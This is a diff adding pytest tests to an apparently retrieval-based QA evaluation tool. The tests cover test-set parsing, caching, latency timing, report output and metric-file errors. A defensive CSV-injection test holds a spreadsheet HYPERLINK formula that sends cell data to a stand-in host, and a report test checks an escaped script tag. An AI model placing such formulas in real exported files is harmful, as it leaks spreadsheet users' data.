@@ -73,6 +73,26 @@ def test_jsonl_bad_lines_are_reported_with_numbers() -> None:
     assert str(problems[7]) == "line 11: 'question' must be a string"
 
 
+def test_a_blank_gold_answer_or_id_in_jsonl_is_a_problem() -> None:
+    """`"answers": [""]` was read as answerable with a gold no answer can match: SQuAD's rule
+    (a gold that normalises to nothing is "no answer") then scored an abstention as exact
+    among HasAns, while `right` counted it a miss; a user who meant "unanswerable" got wrong
+    HasAns/NoAns splits and abstention rates without a word. A blank id passed as an id, and
+    a row without "answers" (say "answer") was told "'answers' must be a list of strings"."""
+    lines = [json.dumps({"id": "a", "question": "Who?", "answers": [""]}),
+             json.dumps({"id": "b", "question": "Who?", "answers": ["Paul", " \t"]}),
+             json.dumps({"id": "  ", "question": "Who?", "answers": []}),
+             json.dumps({"id": "c", "question": "Who?", "answers": ["the"]}),
+             json.dumps({"id": "d", "question": "Who?", "answer": "Paul"})]
+    items, problems = parse_jsonl(lines)
+    assert [i.id for i in items] == ["c"]  # not blank: normalised by the SQuAD rule, as there
+    blank = ("'answers' holds a blank answer (a question the documents cannot answer has "
+             '"answers": [])')
+    assert [str(p) for p in problems] == [
+        f"line 1: {blank}", f"line 2: {blank}", "line 3: 'id' must be a non-empty string",
+        "line 5: missing 'answers' (the gold answers; [] when the documents cannot answer)"]
+
+
 def test_a_bad_question_reads_the_same_in_the_test_set_and_in_the_run(
         fake_pipeline: Pipeline) -> None:
     """Parsing a test set said "the question is blank" where the run (the check every `ask`
@@ -98,6 +118,25 @@ def test_a_bad_question_reads_the_same_in_the_test_set_and_in_the_run(
     assert [p.message for p in problems] == expected
     assert [p.message for p in squad_problems] == expected
     assert [p.message for p in run] == expected
+
+
+def test_unicode_line_separators_inside_a_jsonl_string_do_not_split_the_line(
+        tmp_path: Path) -> None:
+    """JSON allows U+2028, U+2029 and U+0085 raw in a string, and `json.dumps(...,
+    ensure_ascii=False)` writes them so; `str.splitlines` cut such lines in two, so every
+    such question was "not valid JSON" and the line numbers after it were wrong."""
+    rows = [{"id": "a", "question": "Who founded\u2028the bakery?", "answers": ["Agnes"]},
+            {"id": "b", "question": "Who runs it\x85now?", "answers": ["Paul\u2029Moreau"]},
+            {"id": "c", "question": "When did it open?", "answers": ["1987"]}]
+    text = "".join(json.dumps(r, ensure_ascii=False) + "\r\n" for r in rows) + "{broken\r\n"
+    testset = load_testset(_squad(tmp_path, text, "set.jsonl"))
+    assert [(i.id, i.where) for i in testset.items] == [("a", "line 1"), ("b", "line 2"),
+                                                        ("c", "line 3")]
+    assert testset.items[1].answers == ("Paul\u2029Moreau",)
+    assert [str(p) for p in testset.problems] == ["line 4: not valid JSON (Expecting "
+                                                  "property name enclosed in double quotes)"]
+    old_mac = "\r".join(json.dumps(r) for r in rows)  # carriage returns alone still split
+    assert len(load_testset(_squad(tmp_path, old_mac, "mac.jsonl")).items) == 3
 
 
 def test_squad_articles_become_documents_and_questions_items() -> None:
@@ -139,6 +178,27 @@ def test_squad_bad_questions_are_located_and_bad_shapes_fail() -> None:
     broken["data"][0]["paragraphs"][1]["context"] = 7
     with pytest.raises(QAError, match=r"^data\[0\]\.paragraphs\[1\]: a paragraph"):
         parse_squad(broken)
+
+
+def test_squad_golds_not_in_their_paragraph_are_noted_and_impossible_with_answers_refused(
+        tmp_path: Path) -> None:
+    """A gold answer its paragraph does not hold (a typo, an accent dropped) was scored
+    silently, so no prediction could match it; `is_impossible: true` with answers was
+    quietly unanswerable, where the official script scores it by its answers."""
+    data = _small()
+    qas = data["data"][0]["paragraphs"][0]["qas"]
+    qas[0]["answers"] = [{"text": "matilda  CRANE,", "answer_start": 0},  # same once normalised
+                         {"text": "Matilda Crain", "answer_start": 127}]
+    qas[1]["answers"][0]["answer_start"] = 3  # offsets are not used: not a note
+    qas[2]["answers"] = [{"text": "red", "answer_start": 0}]
+    testset = load_testset(_squad(tmp_path, data))
+    assert [str(n) for n in testset.notes] == [
+        "data[0].paragraphs[0].qas[0] (id 'gw1'): gold answer 'Matilda Crain' is not in its "
+        "paragraph (scored as given)"]
+    assert [str(p) for p in testset.problems] == [
+        "data[0].paragraphs[0].qas[2] (id 'gw3'): 'is_impossible' is true but 'answers' is "
+        "not empty"]
+    assert load_testset(SMALL_SQUAD).notes == ()
 
 
 def test_testset_format_is_told_by_content(tmp_path: Path) -> None:
@@ -250,6 +310,75 @@ def test_squad_run_streams_outputs_and_reuses_its_cache(
     assert len(list((tmp_path / "cache" / "eval").iterdir())) == 2
 
 
+def test_a_squad_corpus_holds_only_its_articles_whatever_qa_data_says(
+        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str],
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """With QA_DATA naming the user's uploaded library, `qa eval squad.json` indexed those
+    documents with the articles (answers quoted them) and cached that index under the file's
+    hash, so later runs kept them even without QA_DATA."""
+    library = tmp_path / "library"
+    shutil.copytree(SEEDS, tmp_path / "seeds")
+    Pipeline(Settings(model="fake-hashing", seeds_dir=tmp_path / "seeds", index_dir=tmp_path /
+                      "index", data_dir=library, spacy="none"), HashingEmbedder()) \
+        .add_documents([ROOT / "tests" / "data" / "docs" / "kestrel-lighthouse.html"])
+    assert any(library.iterdir())
+    monkeypatch.setenv("QA_DATA", str(library))
+    monkeypatch.setenv("QA_CACHE_DIR", str(tmp_path / "cache"))
+    code, _, stderr = _main(capsys, "eval", str(SMALL_SQUAD), "--model", "fake-hashing")
+    assert code == 0, stderr
+    corpus = fake_model[-1]
+    assert corpus.documents_dir.parent == corpus.seeds_dir.parent  # inside the cache entry
+    index = Pipeline(corpus, HashingEmbedder()).index
+    assert sorted(index.documents) == ["Greywater_Lighthouse", "Marrow_Valley_Railway"]
+
+
+def test_squad_text_no_document_can_hold_is_refused_and_a_skipped_article_fails(
+        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str],
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """A lone surrogate ("\\ud800" in JSON) in a gold answer crashed the run when --out was
+    written ("internal error: UnicodeEncodeError"), and in a context when the article was;
+    a NUL in a context made the loader skip the article as "binary data" (one log line), so
+    its questions were scored against the other articles, exit 0. The same for any article
+    the loader refuses (too large...): the run now fails before publishing the cache."""
+    from qa.loaders import text as text_loader
+    from qa.loaders.base import BadDocument
+
+    monkeypatch.setenv("QA_CACHE_DIR", str(tmp_path / "cache"))
+    rows = [{"id": "s", "question": "When?", "answers": ["1987 \udc00"]},
+            {"id": "\ud800", "question": "When?", "answers": []}]
+    items, problems = parse_jsonl([json.dumps(r) for r in rows])
+    assert items == [] and [str(p) for p in problems] == [
+        "line 1: 'answers' is not valid text (a lone surrogate)",
+        "line 2: 'id' or 'kind' is not valid text (a lone surrogate)"]
+    data = _small()
+    data["data"][0]["paragraphs"][0]["qas"][0]["answers"][0]["text"] += "\udc00"
+    assert [p.message for p in parse_squad(data)[2]] == [
+        "'answers' is not valid text (a lone surrogate)"]
+    for bad in ("\x00", "\ud800"):
+        data = _small()
+        data["data"][1]["paragraphs"][1]["context"] += bad
+        code, _, stderr = _main(capsys, "eval", str(_squad(tmp_path, data)))
+        assert code == 1 and stderr == ("qa: error: data[1].paragraphs[1].context: not valid "
+                                        "text (a lone surrogate or a NUL character)\n")
+    assert fake_model == []  # refused before any model or index
+
+    extract = text_loader.TextLoader.extract
+
+    def refuse(self: Any, raw: bytes, name: str) -> Any:
+        if name.startswith("Marrow"):
+            raise BadDocument(f"{name}: the file is too large (simulated)")
+        return extract(self, raw, name)
+
+    monkeypatch.setattr(text_loader.TextLoader, "extract", refuse)
+    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)
+    code, _, stderr = _main(capsys, "eval", str(SMALL_SQUAD), "--out", str(tmp_path / "p.jsonl"))
+    assert code == 1, stderr
+    assert stderr.splitlines()[-1] == ("qa: error: 1 article(s) could not be indexed (first: "
+                                       "'Marrow Valley Railway'; see above)")
+    assert list((tmp_path / "cache" / "eval").iterdir()) == []  # nothing published
+    assert not (tmp_path / "p.jsonl").exists()
+
+
 def test_failed_build_leaves_nothing_in_the_cache(
         tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
         capsys: pytest.CaptureFixture[str]) -> None:
@@ -296,6 +425,51 @@ def test_jsonl_run_skips_bad_items_and_strict_fails_before_the_model(
     code, _, stderr = _main(capsys, *base, "--strict")
     assert code == 1 and "2 bad question(s)" in stderr and "(first: line 3:" in stderr
     assert fake_model == []  # failed before any model or index was made
+
+
+def test_a_run_that_could_ask_no_question_fails_and_writes_nothing(
+        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str],
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """Every question refused by the run's own check (content-free) or failing: `qa eval`
+    exited 0 with a metric object of zeros (and citation_exact 1.0) and wrote it out, where
+    a test set with no question at all is an error."""
+    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)  # fast: no PNGs
+    testset = tmp_path / "set.jsonl"
+    testset.write_text(json.dumps({"id": "a", "question": "?!", "answers": []}) + "\n"
+                       + json.dumps({"id": "b", "question": "\U0001f600", "answers": ["x"]})
+                       + "\n{broken\n", encoding="utf-8")
+    seeds = tmp_path / "seeds"
+    shutil.copytree(SEEDS, seeds)
+    outputs = tmp_path / "out"
+    code, stdout, stderr = _main(
+        capsys, "eval", str(testset), "--seeds", str(seeds), "--index", str(tmp_path / "index"),
+        "--model", "fake-hashing", "--json", "--out", str(outputs / "p.jsonl"), "--csv",
+        str(outputs / "p.csv"), "--report", str(outputs / "r.md"), "--metrics-out",
+        str(outputs / "m.json"))
+    assert code == 1 and stdout == ""
+    assert stderr.splitlines()[-1] == (f"qa: error: no question of {str(testset)!r} could be "
+                                       "asked (3 skipped, 0 failed: see above)")
+    assert list(outputs.iterdir()) == []
+
+
+def test_a_jsonl_gold_in_none_of_the_documents_is_noted(
+        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str]) -> None:
+    """A JSON-lines gold answer no document holds was scored silently (no answer can match
+    it); the run now says so, names the line, and still scores it."""
+    rows = [{"id": "1", "question": "How many American troops are in Iraq today?",
+             "answers": ["around 2,500", "around 2,600"]},
+            {"id": "2", "question": "Who is the Pentagon spokesman?", "answers": ["john KIRBY"]}]
+    testset = tmp_path / "set.jsonl"
+    testset.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+    seeds = tmp_path / "seeds"
+    shutil.copytree(SEEDS, seeds)
+    code, stdout, stderr = _main(capsys, "eval", str(testset), "--seeds", str(seeds), "--index",
+                                 str(tmp_path / "index"), "--model", "fake-hashing", "--json")
+    assert code == 0, stderr
+    notes = [line for line in stderr.splitlines() if "gold answer" in line]
+    assert notes == [f"qa: eval: {testset}: line 1 (id '1'): gold answer 'around 2,600' is in "
+                     "none of the documents (scored as given)"]
+    assert json.loads(stdout)["questions"] == 2 and json.loads(stdout)["skipped"] == 0
 
 
 def test_strict_reports_every_question_the_run_would_skip(
@@ -392,6 +566,41 @@ def test_malformed_files_are_one_line_errors(tmp_path: Path,
         assert stderr.startswith("qa: error:") and stderr.count("\n") == 1
 
 
+def test_deeply_nested_json_is_a_problem_not_an_internal_error(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """json.loads raises RecursionError (not ValueError) on deep nesting: a test set of
+    100,000 brackets ended in "qa: internal error: RecursionError" (SQuAD and JSON lines)."""
+    deep = "[" * 100_000 + "]" * 100_000
+    good = json.dumps({"id": "ok", "question": "Who?", "answers": []})
+    testset = load_testset(_squad(tmp_path, f"{good}\n{deep}\n", "deep.jsonl"))
+    assert [str(p) for p in testset.problems] == ["line 2: not valid JSON (nested too deeply)"]
+    assert [str(p) for p in load_testset(_squad(tmp_path, deep, "deep.txt")).problems] == [
+        "line 1: not valid JSON (nested too deeply)"]
+    code, _, stderr = _main(capsys, "eval", str(_squad(tmp_path, '{"data": ' + deep + "}",
+                                                       "deep.json")))
+    assert code == 1 and stderr == "qa: error: 'PATH' is not valid JSON (nested too deeply)\n" \
+        .replace("PATH", str(tmp_path / "deep.json"))
+
+
+def test_latency_times_the_question_not_the_replayed_conversation(
+        fake_pipeline: Pipeline, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A follow-up's latency included replaying its history (one full ask per earlier turn),
+    so conversations inflated latency_p95/max and the report's "warm ask, per question"
+    histogram by a factor of the history's length."""
+    import time
+
+    def slow_ask(question: str, turns: Any = (), k: int = 5, *a: Any, **kw: Any) -> Answer:
+        time.sleep(0.05)
+        return Answer(question, "", True, 0.0, (), ())
+
+    monkeypatch.setattr(fake_pipeline, "ask", slow_ask)
+    item = Item("f", "What did he say then?", (), ("Who spoke?", "When?", "Where?", "Why?"))
+    records: list[dict[str, Any]] = []
+    metrics, _ = evaluation.evaluate(fake_pipeline, [item], sink=records.append)
+    assert 50 <= records[0]["latency_ms"] < 150  # one ask, not five
+    assert metrics["latency_max_ms"] < 150
+
+
 def test_a_failing_question_is_reported_and_counted_not_fatal(fake_pipeline: Pipeline) -> None:
     items = [Item("a", "How many American troops are in Iraq today?", ("around 2,500",)),
              Item("b", "boom?", (), where="line 2"), Item("c", "  ", ())]
@@ -441,6 +650,71 @@ def test_report_escapes_everything_and_lists_every_miss(
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "Misses (1 of 2)" in page
     md = md_path.read_text(encoding="utf-8")
     assert "\\| pipe" in md and "| tricky&lt;kind&gt; | 1 |" in md and "| unanswerable | 1 |" in md
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_stay_text(tmp_path: Path) -> None:
+    """A quoted document sentence or a question starting with "=" (or + - @ tab) was written
+    to --csv as is, and a spreadsheet opening it runs it as a formula (CSV injection)."""
+    evil = '=HYPERLINK("http://x.example/?"&A1,"see")'
+    record = {"id": "@id", "question": "+1 or -1?", "gold": ["-5"], "answerable": True,
+              "prediction": evil, "answer": f"{evil} [1]", "text": f"{evil} [1]",
+              "lead": {"text": "-5 degrees"}, "abstained": False, "confidence": -0.5,
+              "no_answer_probability": 1.5, "read_as": "\tcmd", "citations": [],
+              "passages": [], "latency_ms": 1.0}
+    outputs = eval_report.Outputs.open(out=None, csv=str(tmp_path / "p.csv"), report=None,
+                                       metrics=None)
+    outputs.write(record)
+    outputs.write({**record, "id": "plain", "question": "Who?", "prediction": "Paul",
+                   "lead": None, "read_as": None})
+    outputs.finish({}, [], "t")
+    rows = list(csv.DictReader((tmp_path / "p.csv").open(encoding="utf-8", newline="")))
+    assert rows[0]["id"] == "'@id" and rows[0]["question"] == "'+1 or -1?"
+    assert rows[0]["prediction"] == f"'{evil}" and rows[0]["text"] == f"'{evil} [1]"
+    assert rows[0]["lead"] == "'-5 degrees" and rows[0]["read_as"] == "'\tcmd"
+    assert rows[0]["gold"] == '["-5"]' and rows[0]["confidence"] == "-0.5"  # numbers as is
+    assert rows[1]["id"] == "plain" and rows[1]["prediction"] == "Paul"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows
+                   for name, cell in row.items() if name != "confidence")
+
+
+def test_breakdown_hit_at_1_is_over_the_answerable_questions_of_the_kind(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The report's per-kind hit@1 divided by every question of the kind: a kind mixing
+    answerable and unanswerable questions (follow-ups) showed 0.5 where every answerable
+    one was found first, unlike the metric hit@1 (over the answerable)."""
+    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)
+
+    def outcome(has_answer: bool, first_rank: int | None) -> evaluation.Outcome:
+        return evaluation.Outcome("followup", has_answer, not has_answer, 0.5, 1.0, first_rank,
+                                  False, has_answer, False,
+                                  Scored(has_answer, has_answer, 0, 0.0, 0.5), 0, 0)
+
+    outcomes = [outcome(True, 1), outcome(True, 1), outcome(False, None), outcome(False, 2)]
+    assert evaluation.aggregate(outcomes)["hit@1"] == 1.0
+    predictions = tmp_path / "p.jsonl"
+    predictions.write_text("".join(json.dumps(
+        {"id": str(n), "question": "q", "gold": [], "abstained": True, "answer": "",
+         "passages": []}) + "\n" for n in range(4)), encoding="utf-8")
+    report = tmp_path / "r.md"
+    eval_report.write_report(report, {"hit@1": 1.0}, outcomes, predictions, "t")
+    assert "| followup | 4 | 0.0 | 0.0 | 1.000 | 0.500 | 1.000 |" in report.read_text("utf-8")
+
+
+def test_plots_are_linked_by_a_quoted_url(tmp_path: Path,
+                                         monkeypatch: pytest.MonkeyPatch) -> None:
+    """The report linked its plots by their bare file name: for a report named "r #1 50%.html"
+    the browser read "#1 ..." as a fragment (or "%" as an escape) and showed no plot; in
+    Markdown a space ends the link."""
+    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: True)
+    predictions = tmp_path / "p.jsonl"
+    predictions.write_text("", encoding="utf-8")
+    for name in ("r #1 50%.html", "r #1 50%.md"):
+        report = tmp_path / name
+        eval_report.write_report(report, {"f1": 1.0}, [], predictions, "t")
+        text = report.read_text(encoding="utf-8")
+        for plot in ("latency", "reliability"):
+            assert f"r%20%231%2050%25.{plot}.png" in text
+            assert f"r #1 50%.{plot}.png" not in text
 
 
 def test_lead_metrics_count_shown_leads_and_their_precision() -> None:
@@ -531,6 +805,30 @@ def _cache_with_word_table(tmp_path: Path) -> Path:
             if path.is_file() and path.name.startswith("words-"):
                 (cache / path.name).symlink_to(path)
     return cache
+
+
+def test_odd_metric_files_are_one_line_errors_in_compare(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A metric written as a JSON integer too large for a float, or a deeply nested file,
+    ended in "qa: internal error" (OverflowError, RecursionError); a file starting with a
+    UTF-8 BOM was "not valid JSON", where a test set with one is read."""
+    a = _squad(tmp_path, {"f1": 50.0, "exact": 40.0}, "a.json")
+    huge = _squad(tmp_path, '{"f1": 1' + "0" * 400 + ', "exact": 40.0}', "huge.json")
+    code, stdout, stderr = _main(capsys, "eval", "--compare", str(a), str(huge))
+    assert code == 0 and stderr == "" and "inf" in stdout
+    code, _, stderr = _main(capsys, "eval", "--compare", str(a), str(huge),
+                            "--fail-on-drop", "f1=1")
+    assert code == 1 and "'f1' is not a finite number in B (inf)" in stderr
+    assert stderr.count("\n") == 1
+    bom = tmp_path / "bom.json"  # as an editor or PowerShell may save it; test sets allow it
+    bom.write_bytes(b"\xef\xbb\xbf" + json.dumps({"f1": 49.5, "exact": 40.0}).encode())
+    code, stdout, stderr = _main(capsys, "eval", "--compare", str(a), str(bom),
+                                 "--fail-on-drop", "f1=1")
+    assert code == 0 and stderr == "" and "-0.5000" in stdout
+    deep = _squad(tmp_path, '{"metrics": ' + "[" * 100_000 + "]" * 100_000 + "}", "deep.json")
+    code, _, stderr = _main(capsys, "eval", "--compare", str(a), str(deep))
+    assert code == 1 and stderr == (f"qa: error: metrics file {str(deep)!r} is not valid "
+                                    "JSON (nested too deeply)\n")
 
 
 @pytest.mark.slow
